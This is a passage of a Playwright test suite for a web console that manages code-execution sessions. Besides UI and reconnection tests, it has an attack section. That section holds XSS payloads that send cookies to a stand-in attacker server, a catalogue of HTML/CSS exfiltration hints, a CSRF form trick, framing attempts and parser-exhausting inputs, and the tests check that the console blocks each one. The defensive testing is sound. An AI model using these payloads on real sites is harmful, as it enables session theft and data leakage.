    page.get_by_label("Sort").select_option("name")
    page.locator(".virtual").evaluate("one => { one.scrollTop = one.scrollHeight }")
    expect(page.get_by_role("link", name="agent-0999")).to_be_visible()
    page.keyboard.press("/")
    page.keyboard.type("agent-0123")
    expect(rows).to_have_count(1)
    page.keyboard.press("Escape")
    for _ in range(40):
        page.keyboard.press("j")
    expect(page.locator(".session-row.selected")).to_be_visible()
    sent = []
    page.get_by_label("Sort").select_option("activity")
    page.on("response", lambda answer: sent.append(answer.url) if "/events" in answer.url else None)
    page.wait_for_timeout(1500)
    assert sent == []  # one stream, which is open
    quiet(page)


LIVE, BUSY = 200, 20

PAINTED = """() => {
  // From each key to the moment after the frame that shows what it did.
  window.painted = [];
  addEventListener("keydown", (event) => requestAnimationFrame(() => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = () => {
      const wanted = document.querySelector("input.filter").value;
      const rows = [...document.querySelectorAll(".session-row.row .name")];
      if (wanted && rows.every((row) => row.innerText.includes(wanted))) window.painted.push(performance.now() - event.timeStamp);
    };
    port2.postMessage(0);
  }), true);
}"""

SCROLLED = """async () => {
  // The time of each frame while the list is scrolled; -1 if one has no rows where it is.
  const box = document.querySelector(".virtual");
  const times = [];
  let before = performance.now();
  for (let step = 1; step <= 40; step++) {
    box.scrollTop = step * box.clientHeight;
    await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
    const middle = document.elementFromPoint(box.getBoundingClientRect().left + 300, box.getBoundingClientRect().top + box.clientHeight / 2);
    const atEnd = box.scrollTop + box.clientHeight >= box.scrollHeight - 1;
    times.push(middle?.closest(".row") || atEnd ? performance.now() - before : -1);
    before = performance.now();
  }
  box.scrollTop = 0;
  return times;
}"""


def large_output(started: Any, gateway: Gateway, _: Path) -> None:
    """A 5 MB output, one of 100,000 lines, and one of 50 MB leave the page quick."""
    api = Api(gateway)
    number = api.session("work")
    for code in ("print('y' * 5_000_000)", "for _ in range(50): print('z' * 1_000_000)"):
        api.result(api.submit("work", code))
    running = api.submit(
        "work", "import time\nfor line in range(100_000): print(line, 'x' * 44)\ntime.sleep(600)", timeout=900
    )
    page = console(started, gateway.url, "run")
    show(page, "session", number)
    long = page.locator(".cell .stream.long")
    expect(long.last).to_contain_text("100,000 lines", timeout=60_000)
    quick(page)
    long.last.locator(".virtual").evaluate("one => { one.scrollTop = one.scrollHeight }")
    expect(long.last).to_contain_text("99999")
    api.http.post(f"/executions/{running}/cancel")
    cells = page.locator(".cell")
    for place in range(2):
        cells.nth(place).get_by_role("button", name="Show all that is kept").click()
        expect(cells.nth(place).locator(".stream.long")).to_have_count(1, timeout=60_000)
    expect(long.first).to_contain_text("4,996,000 more characters")
    expect(cells.nth(1)).to_contain_text("events are no longer kept")
    quick(page)
    page.keyboard.press("1")
    expect(page.get_by_role("link", name="work")).to_be_visible()


def quick(page: Page) -> None:
    """Check that the page answers, and has little in it."""
    assert page.evaluate("document.querySelectorAll('*').length") < 3000
    began = time.monotonic()
    for _ in range(5):
        page.evaluate("new Promise(done => requestAnimationFrame(() => setTimeout(done)))")
    assert time.monotonic() - began < 5, time.monotonic() - began


def gateway_killed(started: Any, _: Gateway, __: Path) -> None:
    """When the gateway is killed and started again, the page goes on where it was: no login, no missed change."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [sys.executable, "-m", "cellblock", "serve", "--port", str(port)]
    url = f"http://127.0.0.1:{port}"

    def serve() -> subprocess.Popen[bytes]:
        process = subprocess.Popen(command, stderr=subprocess.DEVNULL)
        until(lambda: reachable(port))
        return process

    token("read")  # there is one, so that the gateway makes none for itself
    process = serve()
    try:
        cellblock.get_or_create("before")
        page = console(started, url, "run")
        expect(page.get_by_role("link", name="before")).to_be_visible()
        asked: list[str] = []
        page.on("request", lambda one: asked.append(one.headers.get("last-event-id", "")) if "/events" in one.url else None)
        process.send_signal(signal.SIGKILL)
        process.wait()
        expect(page.get_by_role("alert")).to_contain_text("The connection is lost")
        cellblock.get_or_create("meanwhile")
        cellblock.destroy("before")
        process = serve()
        expect(page.get_by_role("link", name="meanwhile")).to_be_visible()
        expect(page.get_by_role("link", name="before")).to_have_count(0)
        expect(page.get_by_role("alert")).to_have_count(0)
        assert asked[-1], asked  # it has asked for what came after the last event
    finally:
        process.kill()
        process.wait()


def reachable(port: int) -> bool:
    """Whether something listens at a port."""
    with socket.socket() as sock:
        return sock.connect_ex(("127.0.0.1", port)) == 0


# -- attacks -------------------------------------------------------------------------------------------------------------


@contextmanager
def elsewhere(pages: dict[str, str]) -> Any:
    """Serve pages of an attacker at another port; what was asked for is in the list."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            page = pages.get(self.path.partition("?")[0], "").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()


HACK = "window.hacked=1;try{{parent.hacked=1;top.hacked=1;parent.document.title=`hacked`}}catch(e){{}}"


def hostile_outputs(started: Any, gateway: Gateway, directory: Path) -> None:
    """No output becomes part of the page, reaches the network, or sees the token."""
    with elsewhere({}) as (evil, asked):
        hack = HACK.format()
        page_of_code = f"""<p>A page</p><script>{hack}
          fetch('{evil}/fetch');fetch('{gateway.url}/whoami');new Image().src='{evil}/img';navigator.sendBeacon('{evil}/beacon');
          try{{new WebSocket('{evil.replace("http", "ws")}/ws')}}catch(e){{}}
          try{{window.open('{evil}/open')}}catch(e){{}} try{{top.location='{evil}/top'}}catch(e){{}}
          let seen='';try{{seen+=sessionStorage.length}}catch(e){{seen+='storage refused '}}
          try{{seen+=document.cookie}}catch(e){{seen+='cookie refused'}}
          document.body.append('ran: '+seen);
          setTimeout(()=>location='{evil}/location?'+document.cookie, 2500);</script>
          <link rel=stylesheet href='{evil}/css'><link rel=prefetch href='{evil}/prefetch'><link rel=dns-prefetch href='//evil.example'>
          <meta http-equiv=refresh content='3;url={evil}/refresh'>
          <form action='{evil}/form' id=f></form><script>try{{f.submit()}}catch(e){{}}</script>
          <iframe src='{evil}/iframe'></iframe><object data='{evil}/object'></object><embed src='{evil}/embed'>"""
        svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='50' height='50' onload=\"{hack}\"><script>{hack}</script><image href='{evil}/svg'/></svg>"
        markdown = (
            f"[link](javascript:{hack}) <script>{hack}</script> <img src=x onerror='{hack}'> ![x]({evil}/markdown) "
            f"[data](data:text/html,<script>{hack}</script>) `<script>` <b onclick=x>bold</b> [ok](https://example.org)"
        )
        latex = f"$$\\href{{javascript:{hack}}}{{x}} \\url{{{evil}/latex}} \\includegraphics{{{evil}/latex}}$$"
        api = Api(gateway)
        number = api.session("hostile", **ASKS)
        code = f"""
from IPython.display import HTML, SVG, Latex, Markdown, display
display(HTML({page_of_code!r}), SVG({svg!r}), Markdown({markdown!r}), Latex({latex!r}))
display({{'text/plain': '<script>{hack}</script>', 'image/png': 'x\" onerror=\"{hack}'}}, raw=True)
display({{'text/html': '<table><tr><td onclick="x"><a href="javascript:x">a</a><td>{hack}</table><style>@import "{evil}/import";</style>'}}, raw=True)
display({{'text/html': '<table><style>body{{{{background:url({evil}/style)}}}}</style><tr><th>&lt;script&gt;{hack}&lt;/script&gt;</table>'}}, raw=True)
class Odd:
    def __repr__(self): return '<img src=x onerror="{hack}">'
odd = Odd(); text = '</code><script>{hack}</script>'
name = '<img src=x onerror=hacked=1>.txt'
open(name, 'w').write('<script>{hack}</script>')
print('<script>{hack}</script>')
raise ValueError('<img src=x onerror="{hack}">')
"""
        api.run("hostile", code)
        # Names, labels, and what tools are called and get.
        image = f'<img src=x onerror="{hack}">'
        work = {"working_dir": str(directory), "approval_timeout": 3600}
        made = api.http.post("/sessions/labelled", json={"options": work, "tags": {"owner": image, image: "x"}})
        assert made.status_code == 200, made.text
        assert api.http.post("/sessions/" + quote(image, safe="")).status_code == 422  # no session has such a name
        register(directory)
        call = ASK.partition("print")[0] + f"await bad.run({image!r}, {{ {image!r}: {image!r} }})"
        api.submit("labelled", call)
        api.submit("hostile", f"!echo '<img src=x onerror=\"{hack}\">'")
        until(lambda: len(api.pending()) == 2)
        page = console(started, gateway.url, "admin")
        expect(page.locator(".session-row", has_text="labelled")).to_contain_text("<img")
        show(page, "session", number)
        cell = page.locator(".cell").first
        expect(cell.locator("iframe")).not_to_have_count(0)
        inner = cell.frame_locator("iframe >> nth=0").locator("body")
        expect(cell.get_by_role("button", name="Run the scripts of this output").first).to_be_visible()
        page.wait_for_timeout(500)
        assert "ran:" not in inner.inner_text()
        cell.get_by_role("button", name="Run the scripts of this output").first.click()
        expect(inner).to_contain_text("ran: storage refused")
        expect(cell).to_contain_text("ValueError")
        for tab in ("Variables", "Files", "Checkpoints"):
            page.get_by_role("tab", name=tab).click()
            page.wait_for_timeout(300)
        page.get_by_role("tab", name="Files").click()
        page.get_by_role("button", name="<img src=x", exact=False).first.click()
        page.keyboard.press("Escape")
        for view in ("approvals", "refusals", "permissions", "sessions"):
            show(page, view)
            page.wait_for_timeout(300)
            if view == "approvals":
                expect(page.locator(".pending", has_text="Tool")).to_contain_text("<img src=x onerror=")
                page.get_by_role("button", name="This tool, always…").click()
                page.get_by_text("In all sessions, always: a rule").click()
                expect(page.get_by_label("Rule", exact=True)).to_contain_text('decision = "allow"')
                page.keyboard.press("Escape")
        show(page, "session", number)
        page.wait_for_timeout(4000)
        assert page.evaluate("[window.hacked, document.title.includes('hacked')]") == [None, False]
        assert page.url.startswith(gateway.url)
        assert page.evaluate("document.querySelectorAll('script').length") == 1
        assert page.evaluate(
            "[...document.querySelectorAll('iframe')].every(one => one.getAttribute('sandbox') === 'allow-scripts')"
        )
        links = page.evaluate("[...document.querySelectorAll('main .cell a')].map(one => one.href)")
        assert all(one.startswith(("https://example.org", gateway.url)) for one in links), links
        assert page.evaluate(
            "[...document.querySelectorAll('main *')].every(one => [...one.attributes].every(a => !a.name.startsWith('on')))"
        )
        assert page.context.cookies() == []
        assert len(page.context.pages) == 1
        assert asked == [], asked


HINTS = """
<link rel=dns-prefetch href=//{0}><LINK REL=preconnect HREF=https://{0}><link rel="prefetch" href=https://{0}/a><link rel=prerender href=//{0}>
<svg><link rel=preload as=image href=//{0}></link></svg><math><mtext><link rel=dns-prefetch href=//{0}></mtext></math>
<template><link rel=dns-prefetch href=//{0}></template><noscript><link rel=dns-prefetch href=//{0}></noscript>
<div><template shadowrootmode=open><link rel=dns-prefetch href=//{0}></template></div>
<noscript><p title="</noscript><link rel=dns-prefetch href=//{0}>"></p></noscript><!--><link rel=dns-prefetch href=//{0}>-->
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;link rel=dns-prefetch href=//{0}&gt;">
</style></mglyph></table></mtext></math></table>
<meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=refresh content="0;url=https://{0}"><base href=https://{0}/>
<a href=https://{0}/ ping=https://{0}/ id=near>a link</a><area href=https://{0}><form action=https://{0}><button formaction=https://{0}>b</button></form>
<img src=relative><img src=https://{0}/a srcset="https://{0}/b 2x"><picture><source srcset=https://{0}/c></picture><img attributionsrc=https://{0}>
<video src=https://{0}/v poster=https://{0}/p></video><audio src=//{0}></audio><track src=//{0}><input type=image src=//{0}>
<body background=//{0}><table background=//{0}><tr><td>t</table><iframe src=//{0}></iframe><iframe srcdoc="<link rel=dns-prefetch href=//{0}>"></iframe>
<object data=//{0}></object><embed src=//{0}><frameset><frame src=//{0}></frameset>
<svg><image href=//{0} /><use href=//{0}/#a /><image xlink:href=//{0} /><a href=//{0}><text y=9>t</text><set attributeName=href to=//{0} /></a>
<rect width=9 height=9 fill="url(//{0}/#a)" filter="u\\72l(//{0})"/><script href=//{0}></script><feImage href=//{0} /></svg>
<style>@import "//{0}";@import url(//{0});body{{background:url(//{0})}}p{{background:u\\72l("//{0}")}}@font-face{{font-family:x;src:url(//{0})}}p{{font-family:x}}
i{{content:image-set("//{0}" 1x)}} b{{--x:url(//{0});background:var(--x)}} a{{cursor:url(//{0}),auto}}</style>
<p style="background:url(//{0});list-style:u\\72l(//{0})">p</p><i>i</i><b>b</b>
<script type=speculationrules>{{"prefetch":[{{"urls":["https://{0}/"]}}]}}</script><p>the end</p>
"""
"""Ways in which HTML names another place. In each, {0} is that place"""


def hints(started: Any, gateway: Gateway, _: Path) -> None:
    """No element that is shown names another place: browsers look up such names ahead, and a name can hold data."""
    place = "data.leak.example"
    api = Api(gateway)
    number = api.session("hints")
    code = f"""
from IPython.display import HTML, SVG, Markdown, display
html = {HINTS.format(place)!r}
display(HTML(html), HTML('<table><tr><td>x</table>' + html))
display({{'image/svg+xml': '<svg xmlns="http://www.w3.org/2000/svg">' + html + '</svg>'}}, raw=True)
display(Markdown('[a link](https://{place}) <link rel=dns-prefetch href=//{place}> ![x](https://{place}) <https://{place}>'))
figure = {{'data': [{{'y': [1, 2]}}], 'layout': {{'title': '<a href="https://{place}">x</a>', 'images': [{{'source': 'https://{place}'}}]}}}}
display({{'application/vnd.plotly.v1+json': figure, 'text/plain': 'figure'}}, raw=True)
"""
    api.run("hints", code)
    page = console(started, gateway.url, "read")
    show(page, "session", number)
    frames = page.locator(".cell iframe")
    expect(frames).to_have_count(4)
    named = (
        "(place) => [...document.querySelectorAll('*')].flatMap((one) => [...one.attributes].filter((each) => each.name !== 'title' "
        "&& each.value.includes(place) && !each.value.includes('<')).map((each) => `${one.localName} ${each.name}`))"
    )
    for place_of in range(3):
        frames.nth(place_of).scroll_into_view_if_needed()
        inner = page.frame_locator(".cell iframe").nth(place_of)
        expect(inner.get_by_text("the end")).to_have_count(1)
        assert inner.locator(":root").evaluate(named, place) == []
        hints_left = "document.querySelectorAll('link, base, iframe, object, embed, frame, script, meta[http-equiv]').length"
        assert inner.locator(":root").evaluate(hints_left) == 0
        assert place not in "".join(inner.locator("style").all_text_contents())
    assert page.evaluate(named, place) == []
    page.context.close()


WORST = {
    "openings": "'<' * 400_000",
    "tags": "'<b>' * 100_000",
    "paragraphs": "''.join(f'<b a{n}>' for n in range(20_000)) + '<p>' * 100_000",
    "divisions": "'<table>' + '<div>' * 100_000 + '</b>' * 100_000",
    "attributes": "'<a' + ' on' * 130_000",
    "spaces": "'<a on' + ' ' * 400_000",
    "comments": "'<!--' * 100_000",
    "styles": "'<table><style>' * 30_000",
    "columns": "'<table><tr>' + '<td colspan=1000 rowspan=9999>' * 12_000",
    "entities": "'<table><tr><td>' + '&' * 400_000",
    "css": "'<style>' + 'a{' * 200_000 + '</style>'",
}
"""HTML that takes long if something is done again for each of its characters."""

WORST_TEXT = {
    "backspaces": "'a' * 200_000 + '\\b' * 200_000",
    "returns": "'a' * 200_000 + '\\rb' * 100_000",
    "sequences": "'\\x1b[' + '!' * 400_000",
    "openings": "'\\x1b[' * 200_000",
    "titles": "'\\x1b]' * 200_000",
    "colours": "'\\x1b[31mx' * 80_000",
    "zeros": "'\\u200b' * 400_000",
}

WORST_MARKDOWN = {
    "brackets": "'[' * 50_000",
    "links": "'[a](' * 12_000",
    "stars": "'*a_ ' * 12_000",
    "ticks": "'`a' * 25_000",
    "quotes": "'>' * 50_000",
    "lists": "'- ' * 25_000",
    "pictures": "'![' * 25_000",
    "dollars": "'$a$ ' * 12_000",
    "table": "'a|' * 12_000 + '\\n' + '-|' * 12_000",
    "angles": "'<' * 50_000",
    "less": "'<a' * 25_000",
    "open": "'**a ' * 12_000",
    "formula": "'$' + '{' * 1900 + '$'",
    "entity": "'&' * 50_000",
}

STILL_MS = 800
"""After a list has moved, keys and clicks are ignored for a moment (`useStill`)."""

MOST_MS = 300
"""200 on a quiet machine. On a busy one, tasks need more CPU too, as caches are shared."""


@contextmanager
def measured(started: Any, page: Page) -> Iterator[list[float]]:
    """Measure the longest task of a page's main thread, in milliseconds of CPU: a busy machine does not make it longer."""
    longest: list[float] = []
    started.start_tracing(page=page, categories=["disabled-by-default-devtools.timeline", "blink.user_timing"])
    page.evaluate("performance.mark('this page')")
    try:
        yield longest
    finally:
        events = json.loads(started.stop_tracing())["traceEvents"]
        own = next(each for each in events if each["name"] == "this page")
        longest += [
            each.get("tdur", 0) / 1000
            for each in events
            if each["name"] == "RunTask" and (each["pid"], each["tid"]) == (own["pid"], own["tid"])
        ]


def worst_inputs(started: Any, gateway: Gateway, _: Path) -> None:
    """No output keeps the page from answering for longer than 200 ms."""
    api = Api(gateway)
    number = api.session("worst")
    page = console(started, gateway.url, "read")
    show(page, "session", number)
    too_long = []
    for kind, worst in (
        ("html", WORST),
        ("plain", WORST_TEXT),
        ("markdown", WORST_MARKDOWN),
        ("json", {"deep": "'[' * 99_000 + ']' * 99_000"}),
    ):
        mime = {"plain": "text/plain", "json": "application/json"}.get(kind, f"text/{kind}")
        for name, made in worst.items():
            display = f"display({{{mime!r}: {made}, 'text/plain': 'the plain text' if {kind!r} == 'html' else {made}[:9]}}, raw=True)"
            if kind == "plain":
                display = f"print({made})"
            with measured(started, page) as tasks:
                api.run("worst", f"from IPython.display import display\n{display}")
                expect(page.locator(".cell")).not_to_have_count(0)
                page.wait_for_timeout(1500)
            print(f"{kind} {name}: {max(tasks):.0f} ms", flush=True)
            if max(tasks) > MOST_MS:
                too_long.append(f"{kind} {name}: {max(tasks):.0f} ms")
            api.http.post("/kernels/worst/restart")
    page.context.close()
    assert not too_long, too_long


def moved(started: Any, gateway: Gateway, _: Path) -> None:
    """A key or a click that was meant for a request that has just been withdrawn decides about no other."""
    api = Api(gateway)
    for name in ("first", "second", "third"):
        api.session(name, **ASKS)
    executions = []
    for place, name in enumerate(("first", "second", "third")):
        executions.append(api.submit(name, f"!echo {name}"))
        until(lambda place=place: len(api.pending()) == place + 1)
    page = console(started, gateway.url, "run", "approve")
    show(page, "approvals")
    waiting = page.locator(".pending")
    expect(waiting).to_have_count(3)
    # In the page, so that both come within a few milliseconds of the change.
    page.evaluate(
        """() => new MutationObserver((_, watching) => {
            if (document.querySelectorAll(".pending").length > 2) return;
            watching.disconnect();
            document.dispatchEvent(new KeyboardEvent("keydown", { key: "a", bubbles: true }));
            document.querySelector(".pending .decide button").click();
            document.dispatchEvent(new KeyboardEvent("keydown", { key: "s", bubbles: true }));
        }).observe(document.querySelector(".inbox"), { childList: true, subtree: true })"""
    )
    assert api.http.post("/kernels/first/interrupt").status_code == 200
    expect(waiting).to_have_count(2)
    page.wait_for_timeout(300)
    assert len(api.pending()) == 2
    expect(page.get_by_role("dialog")).to_have_count(0)
    page.wait_for_timeout(800)
    page.keyboard.press("a")
    expect(waiting).to_have_count(1)
    page.keyboard.press("a")  # what the person has done moves nothing under them
    expect(waiting).to_have_count(0)
    assert ["second" in api.result(executions[1])["output"], "third" in api.result(executions[2])["output"]] == [True, True]


def framed(started: Any, gateway: Gateway, _: Path) -> None:
    """Pages of others can frame neither the console nor the page in its frames."""
    frames = "".join(f"<iframe src='{gateway.url}{path}'></iframe>" for path in ("/console", "/console/frame"))
    with elsewhere({"/": frames}) as (evil, _asked):
        page = started.new_page()
        page.goto(f"{evil}/")
        for frame in page.frames[1:]:  # refused by the browser, as the policy of the page says, or by the gateway
            expect(frame.locator("body")).to_contain_text(re.compile("refused to connect|origin_refused"))
            text = frame.evaluate("document.body.innerText")
            assert "cellblock console" not in text, text
            assert "token" not in text, text
        assert len(page.frames) == 3


def posted(started: Any, gateway: Gateway, _: Path) -> None:
    """Pages of others can post nothing, also while the console is open beside them."""
    api = Api(gateway)
    api.session("victim", **ASKS)
    api.submit("victim", "!echo hello")
    (pending,) = until(api.pending)
    body = f'{{"ids": ["{pending["id"]}"], "allow": true}}'
    script = f"""<form id=f method=post enctype=text/plain action='{gateway.url}/approvals'><input name='{body[:-1]}, "x": "' value='"}}'></form>
      <script>const send = mode => fetch('{gateway.url}/approvals', {{method: 'POST', mode, credentials: 'include',
        headers: mode === 'cors' ? {{'Content-Type': 'application/json'}} : {{}}, body: {body!r}}}).then(a => a.text(), e => 'refused');
      Promise.all([send('cors'), send('no-cors'), fetch('{gateway.url}/kernels', {{credentials: 'include'}}).then(a => a.text(), e => 'refused')])
        .then(all => {{ document.title = JSON.stringify(all); f.submit(); }});</script>"""
    with elsewhere({"/": script}) as (evil, _asked):
        page = console(started, gateway.url, "admin")
        expect(page.get_by_role("link", name="victim")).to_be_visible()
        other = page.context.new_page()
        other.goto(f"{evil}/")
        other.wait_for_url(re.compile("/approvals"))
        assert "origin_refused" in other.content()
        assert [one["id"] for one in api.pending()] == [pending["id"]]
        assert "victim" not in other.title()


def small_scopes(started: Any, gateway: Gateway, _: Path) -> None:
    """What a token may not do is not offered, and refused by the server whatever the page sends."""
    api = Api(gateway)
    number = api.session("work", **ASKS)
    other = api.session("other")
    api.run("work", "x = 1")
    api.submit("work", "!echo hello")
    (pending,) = until(api.pending)

    def sent(page: Page, path: str, body: str) -> int:
        return page.evaluate(
            "async ([path, body]) => (await fetch(path, {method: 'POST', body, headers: {'Content-Type': 'application/json', "
            "Authorization: 'Bearer ' + sessionStorage.getItem('cellblock.token')}})).status",
            [path, body],
        )

    reader = console(started, gateway.url, "read")
    show(reader, "session", number)
    expect(reader.locator(".cell")).to_have_count(2)
    for name in ("Interrupt", "Undo", "Checkpoint", "Branch", "Reset", "End", "Run", "Allow once", "Refuse…", "Upload"):
        expect(reader.get_by_role("button", name=name, exact=True)).to_have_count(0)
    expect(reader.locator(".editor")).to_have_count(0)
    decision = f'{{"ids": ["{pending["id"]}"], "allow": true}}'
    assert sent(reader, "/approvals", decision) == 403
    assert sent(reader, "/sessions/work/executions", '{"code": "1"}') == 403
    assert sent(reader, "/sessions/work/undo", "{}") == 403
    runner = console(started, gateway.url, "run")
    show(runner, "approvals")
    expect(runner.get_by_text("This token may look, and not decide.")).to_be_visible()
    expect(runner.get_by_role("button", name="Allow once")).to_have_count(0)
    runner.keyboard.press("a")
    assert sent(runner, "/approvals", decision) == 403
    one = console(started, gateway.url, "run", session=other)
    expect(one.get_by_role("link", name="other")).to_be_visible()
    expect(one.get_by_role("link", name="work")).to_have_count(0)
    expect(one).to_have_title("cellblock")
    assert [found["id"] for found in api.pending()] == [pending["id"]]


def logged_in_by_command(started: Any, _: Gateway, __: Path) -> None:
    """`cellblock console` prints an address that logs in once; nothing of it stays in the address."""
    process = subprocess.Popen(
        [sys.executable, "-m", "cellblock", "console", "--no-browser"], stderr=subprocess.PIPE, text=True
    )
    try:
        address = re.search(r"http://\S+", process.stderr.readline())[0]
        page = started.new_context().new_page()
        page.goto(address)
        expect(page.get_by_text("Live", exact=False).first).to_be_visible()
        assert "login" not in page.url
        assert "look, run, decide" in page.locator(".connection").inner_text()
        page.reload()
        expect(page.get_by_text("Live", exact=False).first).to_be_visible()
        again = started.new_context().new_page()
        again.goto(address)
        expect(again.get_by_text("used before, or is too old")).to_be_visible()
        page.get_by_role("button", name="Log out").click()
        expect(page.get_by_label("Or show a token")).to_be_visible()
    finally:
        process.send_signal(signal.SIGINT)
        assert process.wait(20) in (0, 130, -signal.SIGINT)


def main() -> None:
    """Play scenarios that standard input names, with one gateway and one browser, and tell how each has ended."""
    PICTURES.mkdir(parents=True, exist_ok=True)
    with own_gateway() as gateway, browser() as started:
        console(started, gateway.url, "read").context.close()  # so that all processes of the browser are there
        print("ready", flush=True)
        for line in sys.stdin:
            name, directory = json.loads(line)
            printed, failure = io.StringIO(), ""
            try:
                with redirect_stdout(printed):
                    globals()[name](started, gateway, Path(directory))
            except Exception:
                failure = traceback.format_exc()
            for context in started.contexts:
                context.close()
            print(json.dumps([printed.getvalue(), failure]), flush=True)


if __name__ == "__main__":
    os.environ.setdefault("PYTHONWARNINGS", "ignore")
    main()
